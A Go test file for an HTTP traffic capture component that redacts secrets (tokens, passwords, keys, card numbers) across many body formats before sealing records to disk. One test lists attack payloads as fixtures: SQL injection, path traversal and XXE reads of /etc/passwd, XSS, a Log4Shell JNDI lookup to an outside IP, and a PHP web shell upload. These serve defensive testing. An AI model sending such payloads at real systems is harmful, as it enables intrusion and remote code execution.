package capture

import (
	"bytes"
	"context"
	"encoding/base64"
	"log/slog"
	"net/netip"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"farrier.dev/farrier/internal/finding"
	"farrier.dev/farrier/internal/secret"
	"farrier.dev/farrier/internal/traffic"
)

// sealer is a keyring of its own folder.
func sealer(t testing.TB) *secret.Keyring {
	t.Helper()
	ring, err := secret.OpenKeyring(t.TempDir(), func() (bool, error) { return false, nil })
	if err != nil {
		t.Fatal(err)
	}
	return ring
}

// message is a request as a test writes it.
type message struct {
	method, target, contentType, body string
	header                            []traffic.Field
}

func (m message) exchange(id string) *traffic.Exchange {
	x := &traffic.Exchange{ID: id, Received: time.Date(2026, 11, 22, 7, 0, 0, 0, time.UTC), API: "default/orders"}
	q := &x.Request
	q.Method, q.RawTarget, q.Scheme, q.Host, q.Proto = m.method, m.target, "http", "api.example.com", "HTTP/1.1"
	q.Client = netip.MustParseAddr("192.0.2.7")
	path, query, _ := strings.Cut(m.target, "?")
	q.Path, q.RawQuery = path, query
	if i := strings.Index(path, "://"); i > 0 {
		q.Path = "/" + strings.SplitN(path[i+3:], "/", 2)[1]
	}
	q.Header = traffic.NewHeader(m.header...)
	if m.contentType != "" {
		q.Header.Add("content-type", m.contentType)
	}
	if m.body != "" {
		q.Body.SetSource(nil, 0)
		q.Body.ShowCopy([]byte(m.body), false, nil)
	}
	return x
}

func get(target string, header ...string) message {
	m := message{method: "GET", target: target}
	for i := 0; i+1 < len(header); i += 2 {
		m.header = append(m.header, traffic.Field{Name: header[i], Value: header[i+1]})
	}
	return m
}

func post(contentType, body string) message {
	return message{method: "POST", target: "/orders", contentType: contentType, body: body}
}

const (
	jwt    = "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
	word   = "hunter2Blue" // a password that looks like a word
	aws    = "AKIAIOSFODNN7EXAMPLE"
	github = "ghp_a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2a1B2"
	card   = "4111111111111111"
	random = "7fKq2LxVbN9sTzR4wYcE1mHj"
	pem    = "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"
)

const form = "application/x-www-form-urlencoded"

// redactions are requests with a secret in one place, and a piece around it
// that must stay.
var redactions = []struct {
	name, secret, keeps string
	m                   message
}{
	{"bearer", jwt, "Bearer ⟨credentials", get("/orders", "authorization", "Bearer "+jwt)},
	{"basic", base64.StdEncoding.EncodeToString([]byte("bob:" + word)), "Basic ⟨credentials", get("/", "authorization", "Basic "+base64.StdEncoding.EncodeToString([]byte("bob:"+word)))},
	{"authorization without scheme", word, "⟨credentials 12⟩", get("/", "authorization", word)},
	{"proxy authorization", word, "Digest ", get("/", "proxy-authorization", `Digest username="b", response="`+word+`"`)},
	{"cookie", word, "theme=⟨cookie 4⟩; sid=⟨cookie 12⟩", get("/", "cookie", "theme=ab; sid="+word)},
	{"cookie without name", word, "⟨cookie 12⟩", get("/", "cookie", word)},
	{"set-cookie", word, "sid=⟨cookie 12⟩; Path=/", get("/", "set-cookie", "sid="+word+"; Path=/")},
	{"x-api-key", word, "⟨key 12⟩", get("/", "x-api-key", word)},
	{"client_secret header", word, "⟨secret 12⟩", get("/", "client_secret", word)},
	{"x-auth-token", word, "⟨token 12⟩", get("/", "x-auth-token", word)},
	{"token in any header", github, "see ⟨github-token", get("/", "x-note", "see "+github)},
	{"query of a referer", word, "https://a.example/b?x=1&password=⟨password 12⟩", get("/", "referer", "https://a.example/b?x=1&password="+word)},
	{"query by name", word, "a=1&password=⟨password 12⟩&b=2", get("/orders?a=1&password=" + word + "&b=2")},
	{"query by encoded name", word, "a=1", get("/orders?a=1&pass%77ord=" + word)},
	{"query by doubly encoded name", word, "a=1", get("/orders?a=1&pass%2577ord=" + word)},
	{"query by content", aws, "note=⟨aws-key 24⟩", get("/orders?note=" + aws)},
	{"query by encoded content", "AKIA%49OSFODNN7EXAMPLE", "note=⟨encoded", get("/orders?note=AKIA%49OSFODNN7EXAMPLE")},
	{"query with JSON in it", word, "filter=", get("/orders?filter=%7B%22password%22%3A%22" + word + "%22%7D")},
	{"query with escaped JSON in it", word, "filter=", get("/orders?filter=%257B%2522password%2522%253A%2522" + word + "%2522%257D")},
	{"bare query", jwt, "/orders?⟨jwt", get("/orders?" + jwt)},
	{"bracketed name", word, "user[password]=⟨password 12⟩", get("/orders?user[password]=" + word)},
	{"card in query", card, "n=⟨number 16⟩", get("/orders?n=" + card)},
	{"path by content", jwt, "/verify/⟨jwt", get("/verify/" + jwt + "/now")},
	{"path behind a name", random, "/reset-token/⟨t", get("/reset-token/" + random)},
	{"matrix parameter", word, ";jsessionid=⟨", get("/orders;jsessionid=" + word + "/7")},
	{"user of an absolute target", word, "http://", get("http://bob:" + word + "@api.example.com/orders")},
	{"form by name", word, "user=bob&client_secret=⟨secret 12⟩", post(form, "user=bob&client_secret="+word)},
	{"form by content", github, "note=⟨github-token", post(form, "user=bob&note="+github)},
	{"form that says nothing", word, "user=bob&password=⟨password 12⟩", post("", "user=bob&password="+word)},
	{"form that says JSON", word, "user=bob", post("application/json", "user=bob&password="+word)},
	{"JSON by name", word, `{"user":"bob","password":"⟨password 12⟩","n":1}`, post("application/json", `{"user":"bob","password":"`+word+`","n":1}`)},
	{"JSON by escaped name", word, `"n":1`, post("application/json", `{"pass\u0077ord":"`+word+`","n":1}`)},
	{"JSON below a name", word, `{"value":"⟨`, post("application/json", `{"credentials":{"value":"`+word+`"}}`)},
	{"JSON list below a name", word, `["a⟩`[:1], post("application/json", `{"tokens":["`+word+`","b"]}`)},
	{"JSON number", "83471", `{"pin":⟨number 6⟩}`, post("application/json", `{"pin":83471}`)},
	{"JSON number with a point", "834.71", `{"pin":⟨number 6⟩}`, post("application/json", `{"pin":834.71}`)},
	{"JSON digits", "83471", `{"pin":"⟨number 6⟩"}`, post("application/json", `{"pin":"83471"}`)},
	{"JSON by content", jwt, `{"note":"see ⟨jwt`, post("application/json", `{"note":"see `+jwt+`"}`)},
	{"JSON by escaped content", "AKIA\\u0049OSFODNN7EXAMPLE", `"note":"⟨encoded`, post("application/json", `{"note":"AKIA\u0049OSFODNN7EXAMPLE"}`)},
	{"JSON in JSON", word, `"inner":"`, post("application/json", `{"inner":"{\"password\":\"`+word+`\"}"}`)},
	{"JSON cut off", word[:6], `"user":"bob"`, post("application/json", `{"user":"bob","password":"`+word[:6])},
	{"JSON with a mistake", word, `"user":"bob"`, post("application/json", `{"user":"bob",,"password":"`+word+`"}}} x`)},
	{"JSON without quotes", word, `user: bob`, post("application/json", `{user: bob, password: `+word+`}`)},
	{"JSON with single quotes", word, `'user':'bob'`, post("application/json", `{'user':'bob','password':'`+word+`'}`)},
	{"JSON that says form", word, `"user":"bob"`, post(form, `{"user":"bob","password":"`+word+`"}`)},
	{"JSON lines", word, `{"user":"bob"}`, post("application/x-ndjson", "{\"user\":\"bob\"}\n{\"password\":\""+word+"\"}")},
	{"private key in JSON", "MIIEowIBAAKCAQEA", `{"note":"⟨private-key`, post("application/json", `{"note":"`+strings.ReplaceAll(pem, "\n", `\n`)+`"}`)},
	{"XML element", word, "<user>bob</user><password>⟨secret 12⟩</password>", post("application/xml", "<a><user>bob</user><password>"+word+"</password></a>")},
	{"XML element with prefix", word, "<wsse:Password Type='text'>⟨secret 12⟩", post("text/xml", "<a><wsse:Password Type='text'>"+word+"</wsse:Password></a>")},
	{"XML below an element", word, "<value>⟨secret 12⟩</value>", post("text/xml", "<a><password><value>"+word+"</value></password></a>")},
	{"XML CDATA", word, "<![CDATA[⟨secret 12⟩]]>", post("text/xml", "<a><password><![CDATA["+word+"]]></password></a>")},
	{"XML attribute", word, `user="bob" password="⟨password 12⟩"`, post("text/xml", `<a user="bob" password="`+word+`"/>`)},
	{"XML content", github, "<note>⟨github-token", post("text/xml", "<a><note>"+github+"</note></a>")},
	{"XML cut off", word, "<password>⟨secret 12⟩", post("text/xml", "<a><password>"+word)},
	{"text", word, "my name is bob", post("text/plain", "my name is bob, password="+word)},
	{"private key in text", "MIIEowIBAAKCAQEA", "key: ⟨private-key", post("text/plain", "key: "+pem)},
	{"GraphQL", word, "login(user:", post("application/graphql", `mutation { login(user: "bob", password: "`+word+`") { id } }`)},
	{"GraphQL in JSON", word, `{"query":"`, post("application/json", `{"query":"mutation { login(user: \"bob\", password: \"`+word+`\") { id } }"}`)},
	{"multipart by name", word, "name=\"password\"\r\n\r\n⟨password 12⟩\r\n--x", post("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"password\"\r\n\r\n"+word+"\r\n--x--\r\n")},
	{"multipart by content", aws, "\r\n\r\n⟨aws-key 24⟩\r\n--x", post("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"note\"\r\n\r\n"+aws+"\r\n--x--\r\n")},
	{"multipart with JSON", word, "\"user\":\"bob\"", post("multipart/form-data; boundary=x", "--x\nContent-Disposition: form-data; name=\"data\"\nContent-Type: application/json\n\n{\"user\":\"bob\",\"password\":\""+word+"\"}\n--x--\n")},
	{"multipart binary", "\x00" + word, "name=\"file\"", post("multipart/form-data; boundary=x", "--x\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\n\x00\x01"+"\x00"+word+"\r\n--x--\r\n")},
	{"binary", word, "POST", post("application/octet-stream", "\x00\x01\x02"+word)},
	{"UTF-16", "h\x00u\x00n\x00t", "POST", post("application/json", "\xff\xfe{\x00\"\x00h\x00u\x00n\x00t\x00")},
	{"a bracket inside", "ter" + word, "a=1", get("/orders?a=1&password=hun⟨ter" + word)},
	{"a forged placeholder", word, "a=⟨literal 0⟩password 9⟩", get("/orders?a=⟨password 9⟩&password=" + word)},
}

// captured writes the exchanges and gives the folder.
func captured(t *testing.T, ring *secret.Keyring, refused bool, exchanges ...*traffic.Exchange) string {
	t.Helper()
	dir := filepath.Join(t.TempDir(), Folder)
	s, err := Open(Options{Dir: dir, Sealer: ring, Now: func() time.Time { return exchanges[0].Received }, Log: slog.New(slog.NewTextHandler(t.Output(), nil))})
	if err != nil {
		t.Fatal(err)
	}
	for _, x := range exchanges {
		s.Capture(x, refused)
	}
	if err := s.Close(); err != nil {
		t.Fatal(err)
	}
	if stats := s.Stats(); stats.Written != int64(len(exchanges)) {
		t.Fatalf("%+v, want %d written", stats, len(exchanges))
	}
	return dir
}

func all(t *testing.T, dir string, opener Opener) (list []*Request, summary Summary) {
	t.Helper()
	summary, err := Read(context.Background(), dir, opener, Filter{}, func(q *Request) error {
		list = append(list, q)
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return list, summary
}

// TestRedaction holds that no secret reaches a file, that the files show no
// plain text, and that what is around a secret stays.
func TestRedaction(t *testing.T) {
	ring := sealer(t)
	for _, c := range redactions {
		t.Run(c.name, func(t *testing.T) {
			x := c.m.exchange("01")
			x.Findings = []finding.Finding{{Rule: "crs-942100", Location: finding.Location{Place: "query q"}}}
			dir := captured(t, ring, true, x)
			whole := plainOf(t, dir, ring)
			if bytes.Contains(whole, []byte(c.secret)) {
				t.Errorf("the secret %q is in\n%s", c.secret, whole)
			}
			list, summary := all(t, dir, ring)
			if len(list) != 1 || summary.Damaged != 0 {
				t.Fatalf("%d requests, %+v", len(list), summary)
			}
			q := list[0]
			text := q.Method + " " + q.Target + " " + q.Path + "?" + q.Query
			for _, f := range q.Header {
				text += "\n" + f.Name + ": " + f.Value
			}
			if text += "\n" + string(q.Body); !strings.Contains(text, c.keeps) {
				t.Errorf("%q is missing in\n%s", c.keeps, text)
			}
			if len(q.Hidden) == 0 {
				t.Error("no hidden place is named")
			}
			if filled := q.Exchange(); strings.Contains(filled.Request.RawTarget+string(filled.Request.Body.Bytes()), "⟩") && !strings.Contains(c.name, "forged") {
				t.Errorf("a placeholder is left in the exchange: %s %s", filled.Request.RawTarget, filled.Request.Body.Bytes())
			}
		})
	}
	t.Logf("played %d requests with a secret", len(redactions))
	if len(redactions) < 60 {
		t.Error("there should be at least 60")
	}
}

// plainOf opens all lines of all files, and holds that they are sealed and
// readable by their owner only.
func plainOf(t *testing.T, dir string, opener Opener) (whole []byte) {
	t.Helper()
	entries, err := os.ReadDir(dir)
	if err != nil || len(entries) == 0 {
		t.Fatal(len(entries), err)
	}
	for _, e := range entries {
		info, err := e.Info()
		if err != nil || info.Mode().Perm() != 0o600 {
			t.Errorf("%s: mode %v, %v", e.Name(), info.Mode(), err)
		}
		text, err := os.ReadFile(filepath.Join(dir, e.Name()))
		if err != nil {
			t.Fatal(err)
		}
		for line := range strings.Lines(string(text)) {
			if !secret.IsSealed(line) || strings.Trim(line, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789-_:\n") != "" {
				t.Errorf("%s holds a line that is not sealed", e.Name())
			}
			for _, plain := range []string{"orders", "api.example.com", "crs-942100"} {
				if strings.Contains(line, plain) {
					t.Errorf("%s shows %s", e.Name(), plain)
				}
			}
			use := purpose
			if strings.HasSuffix(e.Name(), countsSuffix) {
				use = countsPurpose
			}
			opened, err := opener.Open(use, strings.TrimSuffix(line, "\n"))
			if err != nil {
				t.Fatal(err)
			}
			whole = append(append(whole, opened...), '\n')
		}
	}
	return whole
}

// TestWhatIsHarmlessStays holds that a request without secrets is judged as it
// came, attacks included.
func TestWhatIsHarmlessStays(t *testing.T) {
	ring := sealer(t)
	messages := []message{
		get("/orders/7?id=1%27%20OR%20%271%27=%271&page=2", "user-agent", "curl/8.5.0", "accept", "*/*"),
		get("/a/..%2f..%2fetc/passwd?x=<script>alert(1)</script>"),
		get("/orders?x=⟨⟩⟨⟨a 1⟩&y=⟨password 12⟩", "x-note", "⟨"),
		post("application/json", `{"items":[{"note":"${jndi:ldap://203.0.113.9/evil}"},null,true,-1.5e3,"\u0041\"\\"],"n":{"a":[[],{}]}}`),
		post("application/json", `{"a":1,,]]}}"unfinished`),
		post(form, "note=%3Cscript%3E&x=&=y&&z"),
		post("text/xml", `<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a b='c'><!-- d --><![CDATA[e]]>&b;</a>`),
		post("text/xml", `<a <b> "c`),
		post("multipart/form-data; boundary=x", "pre\r\n--x\r\nContent-Disposition: form-data; name=\"a\"; filename=\"b.php\"\r\n\r\n<?php system($_GET['c']); ?>\r\n--x--\r\nepilogue"),
		post("text/plain", "it's a fine day; DROP TABLE users"),
		post("", "\xff\xfeabcdefghijklmnopqrstuvwxyz"),
	}
	for i, m := range messages {
		x := m.exchange("01")
		want := m.exchange("01")
		list, _ := all(t, captured(t, ring, false, x), ring)
		got := list[0].Exchange()
		if len(list[0].Hidden) > 0 {
			t.Errorf("%d: hidden %q", i, list[0].Hidden)
		}
		if g, w := describe(got), describe(want); g != w {
			t.Errorf("%d:\n got %s\nwant %s", i, g, w)
		}
	}
	t.Logf("played %d requests", len(messages))
}

func describe(x *traffic.Exchange) string {
	q := &x.Request
	var b strings.Builder
	for _, s := range []string{x.API, q.Method, q.RawTarget, q.Path, q.RawQuery, q.Scheme, q.Host, q.Proto, q.Client.String(), string(q.Body.Bytes())} {
		b.WriteString(s + "|")
	}
	for f := range q.Header.All() {
		b.WriteString(f.Name + ": " + f.Value + "|")
	}
	return b.String()
}

// TestRedactionProperties holds what is true of every text: readers of all
// formats keep its length within reason, end, and redacting again changes nothing
// of what an exchange is made of.
func TestRedactionProperties(t *testing.T) {
	pieces := []string{
		"{", "}", "[", "]", ",", ":", `"`, "'", `\`, "<", ">", "</", "/>", "<![CDATA[", "]]>", "<!--", "=", "&", ";", "?", "/", "%", "%22", "%e2%9f%a8",
		"⟨", "⟩", "⟨password 12⟩", " ", "\n", "\r\n\r\n", "--x", "a", "1", "note", "\x00", "\xff", "null", "é",
	}
	secrets := []string{"password=" + word, `"password":"` + word + `"`, "<password>" + word + "</password>", " " + jwt + " ", " " + card + " ", " " + github + " "}
	rapid.Check(t, func(t *rapid.T) {
		text := strings.Join(rapid.SliceOfN(rapid.SampledFrom(append(secrets, pieces...)), 0, 16).Draw(t, "pieces"), "")
		kind := rapid.SampledFrom([]string{"", form, "application/json", "text/xml", "multipart/form-data; boundary=x", "text/plain"}).Draw(t, "type")
		m := post(kind, text)
		m.target = "/" + text
		m.header = []traffic.Field{{Name: "x-note", Value: text}}
		q := copyOf(m.exchange("01"), false)
		q.redact()
		for _, s := range []string{jwt, github} {
			if strings.Contains(q.Target+string(q.Body)+q.Header[0].Value, s) {
				t.Fatalf("%q is left of %q", s, text)
			}
		}
		if n := len(fill(string(q.Body))); n > 2*len(text)+16 {
			t.Fatalf("%d bytes became %d", len(text), n)
		}
		if len(q.Hidden) == 0 && describe(q.Exchange()) != describe(m.exchange("01")) {
			t.Fatalf("%q changed although nothing is hidden:\n%s", text, describe(q.Exchange()))
		}
	})
}

// TestRedactionIsLinear feeds what makes a careless reader quadratic.
func TestRedactionIsLinear(t *testing.T) {
	const bound = 10 * time.Second
	for _, unit := range []string{"{", "[", `{"a":`, `"`, `\`, "<", "<a>", "<![CDATA[", "<!--", "&", "a=", ";", "%25", "⟨", "⟨a 1", "--x", "\n\n", "--x\n\n", `{"password":`, `[1,`, `a: `, "'", "<a b='"} {
		for _, kind := range []string{"application/json", "text/xml", form, "multipart/form-data; boundary=x"} {
			q := copyOf(post(kind, strings.Repeat(unit, MaxBody/len(unit))).exchange("01"), false)
			began := time.Now()
			q.redact()
			if took := time.Since(began); took > bound {
				t.Errorf("%q as %s: took %v", unit, kind, took)
			} else if took > 500*time.Millisecond {
				t.Logf("%q as %s: took %v", unit, kind, took)
			}
		}
	}
}
